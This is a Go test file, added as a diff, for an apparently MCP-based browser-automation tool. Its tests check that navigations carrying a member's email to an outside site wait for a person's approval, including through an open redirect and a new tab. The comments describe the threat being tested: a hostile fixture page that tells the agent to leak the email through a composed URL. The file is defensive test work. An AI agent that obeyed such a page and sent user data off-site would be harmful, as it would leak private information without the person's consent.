@@ -1,0 +1,302 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/mark3labs/mcp-go/client"
+
+	"github.com/chaperone-mcp/chaperone/fixtures"
+	"github.com/chaperone-mcp/chaperone/internal/browsertest"
+	"github.com/chaperone-mcp/chaperone/tools"
+)
+
+// leakSite serves the fixture site on 127.0.0.1 and remembers every request
+// it receives, by host and URI, so a test can tell whether data reached it.
+// The same server is the other site as localhost: 127.0.0.1 and localhost
+// are different sites.
+type leakSite struct {
+	URL, Other string
+
+	mu   sync.Mutex
+	seen []string
+}
+
+func leakServeSite(t *testing.T) *leakSite {
+	t.Helper()
+	s := &leakSite{}
+	site := fixtures.Site()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		s.mu.Lock()
+		s.seen = append(s.seen, r.Host+r.URL.RequestURI())
+		s.mu.Unlock()
+		site.ServeHTTP(w, r)
+	}))
+	t.Cleanup(srv.Close)
+	s.URL = srv.URL
+	s.Other = strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
+	return s
+}
+
+// saw reports whether a request whose host and URI contain part arrived.
+func (s *leakSite) saw(part string) bool {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return slices.ContainsFunc(s.seen, func(u string) bool { return strings.Contains(u, part) })
+}
+
+// leakNavigate calls browser_navigate to u and returns its result.
+func leakNavigate(t *testing.T, c *client.Client, u string) actionResult {
+	t.Helper()
+	r, _ := act(t, c, tools.Navigate, map[string]any{"url": u})
+	return r
+}
+
+// leakRejected fails the test unless r is a person's rejection that left
+// the page where it was.
+func leakRejected(t *testing.T, c *client.Client, r actionResult, stayAt string) {
+	t.Helper()
+	if r.Success || r.Error == nil || *r.Error != string(tools.HumanRejected) {
+		t.Fatalf("rejected navigation: success %v error %v %q; want human_rejected", r.Success, r.Error, r.Message)
+	}
+	if s := getSnapshot(t, c); s.Page.URL != stayAt {
+		t.Fatalf("after the rejection the page is %s, want it to stay at %s", s.Page.URL, stayAt)
+	}
+}
+
+// TestLeakByComposedURL reverses issue 23's "browser_navigate to another
+// site with data in the query goes out without anyone asked": a page tells
+// the agent to open the other site with the member's email in the query.
+// A URL the agent composes that sends data to a site outside the write set
+// asks the person, who sees the URL in full and the site named; rejected,
+// the request never leaves. A bare origin, a URL of the start site and a
+// link the page holds are not asked about; an approval lets the navigation
+// go, and the audit log ties it to that approval.
+func TestLeakByComposedURL(t *testing.T) {
+	site := leakServeSite(t)
+	start := site.URL + "/hostile/leak-note"
+	auditDir := filepath.Join(t.TempDir(), "audit")
+	c, host, _ := webhookServe(t, "--url", start, "--caps", "tabs", "--audit-dir", auditDir)
+	getSnapshot(t, c)
+
+	t.Run("composed URL with data to another site", func(t *testing.T) {
+		dest := site.Other + "/help?email=" + url.QueryEscape("alice@example.com")
+		host.decisions <- map[string]any{"approved": false, "feedback": "never send my email there"}
+		r := leakNavigate(t, c, dest)
+		asked := host.asked(t)
+		shown := asked.Prompt + "\n" + strings.Join(asked.Lines, "\n")
+		otherSite := "http://localhost"
+		for _, want := range []string{dest, "to " + otherSite + ", a site outside", "http://127.0.0.1"} {
+			if !strings.Contains(shown, want) {
+				t.Errorf("the person is not shown %q:\n%s", want, shown)
+			}
+		}
+		if asked.Concrete == nil || asked.Concrete.Verb != "navigate" || asked.Concrete.Value != dest {
+			t.Errorf("the person approves %+v, want navigate %s", asked.Concrete, dest)
+		}
+		leakRejected(t, c, r, start)
+		if site.saw("email=alice") {
+			t.Fatal("the email reached the other site although the person said no")
+		}
+	})
+
+	t.Run("through the start site's open redirect", func(t *testing.T) {
+		dest := site.URL + "/redirect?to=" + url.QueryEscape(site.Other+"/help?email=alice%40example.com")
+		host.decisions <- map[string]any{"approved": false}
+		r := leakNavigate(t, c, dest)
+		if asked := host.asked(t); !strings.Contains(strings.Join(asked.Lines, "\n"), "http://localhost, a site outside") {
+			t.Errorf("the person is not told where the data goes: %q", asked.Lines)
+		}
+		leakRejected(t, c, r, start)
+		if site.saw("email=alice") {
+			t.Fatal("the email reached the other site through the redirect")
+		}
+	})
+
+	t.Run("new tab", func(t *testing.T) {
+		dest := site.Other + "/help?email=alice%40example.com"
+		host.decisions <- map[string]any{"approved": false}
+		_, text := call(t, c, tools.Tabs, map[string]any{"action": "new", "url": dest})
+		host.asked(t)
+		var r actionResult
+		if err := json.Unmarshal([]byte(text), &r); err != nil {
+			t.Fatal(err)
+		}
+		if r.Success || r.Error == nil || *r.Error != string(tools.HumanRejected) {
+			t.Fatalf("rejected new tab: %s", text)
+		}
+		_, list := call(t, c, tools.Tabs, map[string]any{"action": "list"})
+		if !strings.Contains(list, "Tabs (1)") || site.saw("email=alice") {
+			t.Fatalf("the rejected tab opened anyway: %s", list)
+		}
+	})
+
+	// Nothing of these is asked about: a queued decision would be taken by
+	// a question, so none is queued, and a question would fail the call.
+	for _, tt := range []struct{ name, url string }{
+		{"bare origin of another site", site.Other + "/"},
+		{"the start site with data", site.URL + "/help?q=plans"},
+		{"back to the hostile page", start},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if r := leakNavigate(t, c, tt.url); !r.Success {
+				t.Fatalf("navigate %s: %v %q", tt.url, r.Error, r.Message)
+			}
+			host.notAsked(t)
+		})
+	}
+
+	t.Run("a link the page holds", func(t *testing.T) {
+		s := getSnapshot(t, c)
+		r, after := click(t, c, browsertest.Ref(t, s, "link", "Partner offers"))
+		if !r.Success || !strings.HasPrefix(after.Page.URL, site.Other+"/help?ref=leak-note") {
+			t.Fatalf("click the partner link: %v %q, at %s", r.Error, r.Message, after.Page.URL)
+		}
+		host.notAsked(t)
+	})
+
+	t.Run("approved", func(t *testing.T) {
+		dest := site.Other + "/help?email=bob%40example.com"
+		host.decisions <- map[string]any{"approved": true}
+		r := leakNavigate(t, c, dest)
+		approval := host.asked(t)
+		if !r.Success || !site.saw("email=bob") {
+			t.Fatalf("approved navigation: %v %q", r.Error, r.Message)
+		}
+		var found bool
+		for deadline := time.Now().Add(10 * time.Second); !found && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+			for _, ev := range auditEvents(t, auditDir) {
+				found = found || (ev["tool"] == tools.Navigate && ev["result"] == "ok" && ev["approval_id"] == approval.ID)
+			}
+		}
+		if !found {
+			t.Errorf("no audited navigation names approval %s", approval.ID)
+		}
+	})
+}
+
+// TestLeakWriteSet: --write-origins and a profile's allowed_origins widen
+// the write set, and --profile none turns the rule off with the rest; a
+// site still outside is asked about.
+func TestLeakWriteSet(t *testing.T) {
+	site := leakServeSite(t)
+	start := site.URL + "/hostile/leak-note"
+	profile := filepath.Join(t.TempDir(), "leak.json")
+	data, _ := json.Marshal(map[string]any{"name": "leak", "start_url": start, "allowed_origins": []string{site.URL, site.Other}})
+	if err := os.WriteFile(profile, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name  string
+		args  []string
+		asked bool
+	}{
+		{"--write-origins names the site", []string{"--write-origins", site.Other}, false},
+		{"--write-origins names another", []string{"--write-origins", "https://partner.example"}, true},
+		{"the profile's allowed_origins name it", []string{"--profile", profile}, false},
+		{"--profile none", []string{"--profile", "none"}, false},
+	}
+	for i, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dest := fmt.Sprintf("%s/help?email=alice%%40example.com&case=%d", site.Other, i)
+			c, host, _ := webhookServe(t, append([]string{"--url", start}, tt.args...)...)
+			if tt.asked {
+				host.decisions <- map[string]any{"approved": false}
+			}
+			r := leakNavigate(t, c, dest)
+			if !tt.asked {
+				host.notAsked(t)
+				if !r.Success || !site.saw(fmt.Sprintf("case=%d", i)) {
+					t.Fatalf("navigate: %v %q", r.Error, r.Message)
+				}
+				return
+			}
+			host.asked(t)
+			leakRejected(t, c, r, start)
+		})
+	}
+}
+
+// leakModel is a Messages API that answers every request with one call of
+// tool and counts the requests: a model that goes nowhere, as a model a page
+// has confused does.
+type leakModel struct {
+	tool string
+	mu   sync.Mutex
+	n    int
+}
+
+func (m *leakModel) requests() int {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	return m.n
+}
+
+func (m *leakModel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if r.URL.Path != "/v1/messages" {
+		http.NotFound(w, r)
+		return
+	}
+	m.mu.Lock()
+	m.n++
+	n := m.n
+	m.mu.Unlock()
+	w.Header().Set("Content-Type", "application/json")
+	json.NewEncoder(w).Encode(map[string]any{
+		"id": fmt.Sprintf("msg_%d", n), "type": "message", "role": "assistant", "model": "claude-sonnet-5-5",
+		"content":     []map[string]any{{"type": "tool_use", "id": fmt.Sprintf("toolu_%d", n), "name": m.tool, "input": map[string]any{}}},
+		"stop_reason": "tool_use", "stop_sequence": nil,
+		"usage": map[string]any{"input_tokens": 1000, "output_tokens": 10, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0},
+	})
+}
+
+// TestLeakNoProgressRunAsksThePerson reverses issue 23's "a model that only
+// calls get_snapshot burns 20 turns": through the built binary, chaperone
+// run with a model that calls nothing else reflects after three such calls,
+// asks the person after six, and stops when the person says stop: seven
+// model calls, not twenty.
+func TestLeakNoProgressRunAsksThePerson(t *testing.T) {
+	site := leakServeSite(t)
+	model := &leakModel{tool: tools.GetSnapshot}
+	api := httptest.NewServer(model)
+	t.Cleanup(api.Close)
+	host, hookURL := newApprovalHost(t, webhookToken)
+	host.decisions <- map[string]any{"approved": false, "feedback": "stop, it is going nowhere"}
+
+	out := filepath.Join(t.TempDir(), "run")
+	cmd := exec.Command(bin, "run", "--goal", "Read the plan name", "--url", site.URL+"/hostile/leak-note",
+		"--approver", "webhook", "--webhook-url", hookURL, "--out", out)
+	cmd.Env = append(os.Environ(), "ANTHROPIC_API_KEY=sk-test", "ANTHROPIC_BASE_URL="+api.URL, "CHAPERONE_WEBHOOK_TOKEN="+webhookToken)
+	output, _ := cmd.CombinedOutput()
+
+	asked := host.asked(t)
+	if !strings.Contains(asked.Prompt, "stuck") || !strings.Contains(asked.Words, "no progress") {
+		t.Errorf("the person is asked %q about %q; want the stuck question naming the calls that made no progress", asked.Prompt, asked.Words)
+	}
+	if n := model.requests(); n != 1+2*3 {
+		t.Errorf("the model was called %d times, want 7: reflect after 3 calls that go nowhere, ask after 6\n%s", n, output)
+	}
+	if !strings.Contains(string(output), "stop, it is going nowhere") {
+		t.Errorf("the run does not end with the person's word:\n%s", output)
+	}
+}
+
+// A --write-origins entry that names no site stops the command at start,
+// saying which flag is wrong.
+func TestLeakWriteOriginsFlagRefusesNoSite(t *testing.T) {
+	out, err := exec.Command(bin, "serve", "--write-origins", "https://ok.example,no-site-here").CombinedOutput()
+	if err == nil || !strings.Contains(string(out), "--write-origins") || !strings.Contains(string(out), "no-site-here") {
+		t.Fatalf("serve with a bad --write-origins: %v\n%s", err, out)
+	}
+}
